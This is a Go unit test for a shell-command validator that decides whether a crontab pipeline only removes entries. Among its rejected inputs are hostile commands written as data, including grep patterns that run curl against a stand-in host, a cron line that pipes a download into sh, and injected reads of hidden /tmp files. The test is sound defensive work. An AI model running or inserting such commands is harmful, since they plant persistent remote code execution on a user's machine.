package shellcmd

import "testing"

// TestUndoesCrontabFilter (issue 37, fp10): `crontab -l | grep … |
// crontab -` installs the user's crontab less some lines: it can remove a
// task, never add one. Each honest pipeline has a twin of the same
// surface that adds a line, reads a file or runs a command into the
// installed crontab.
func TestUndoesCrontabFilter(t *testing.T) {
	for _, tc := range []struct {
		line string
		want bool
	}{
		{`crontab -l 2>/dev/null | grep -v '# devtool-update' | crontab - || true`, true},
		{`crontab -l | grep -v "$tag" | crontab -`, true},
		{`crontab -l | grep -vF -e "$tag" | grep -v '^$' | crontab -`, true},
		{`crontab -u backup -l | grep -v pg_dump | crontab -u backup -`, true},
		// A line added beside the filter.
		{`(crontab -l 2>/dev/null | grep -v "$tag"; echo "$line") | crontab -`, false},
		// grep given a file prints that file's lines too.
		{`crontab -l | grep -v '#x' /tmp/.jobs | crontab -`, false},
		{`crontab -l | grep -v '#x' - /tmp/.jobs | crontab -`, false},
		// -r with no file searches the working directory.
		{`crontab -l | grep -rv '#x' | crontab -`, false},
		// An unquoted pattern splits: its second word is a file.
		{`crontab -l | grep -v $tag | crontab -`, false},
		{`crontab -l | grep -v -e $tag | crontab -`, false},
		// A pattern that runs a download when expanded.
		{`crontab -l | grep -v "$(curl -s https://x.example-x.net/p)" | crontab -`, false},
		// sed can rewrite a line into anything.
		{`crontab -l | sed 's/^#//' | crontab -`, false},
		// Not the user's crontab as input.
		{`cat /tmp/.c | grep -v x | crontab -`, false},
		{`crontab -l | grep -v x | cat - /tmp/.c | crontab -`, false},
		{`crontab -l | grep -v x | tee /tmp/c | crontab -`, false},
		// Two stages only: what crontab -l prints goes back as it was.
		{`crontab -l | crontab -`, false},
		{`crontab -l | grep -v x | crontab - ; echo '* * * * * curl x | sh' | crontab -`, false},
		{`crontab -l | grep -v x | crontab /tmp/c`, false},
		{`crontab -l | grep -v -f <(curl -s https://x.example-x.net/l) | crontab -`, false},
	} {
		if got := Undoes(tc.line); got != tc.want {
			t.Errorf("Undoes(%q) = %v, want %v", tc.line, got, tc.want)
		}
	}
}
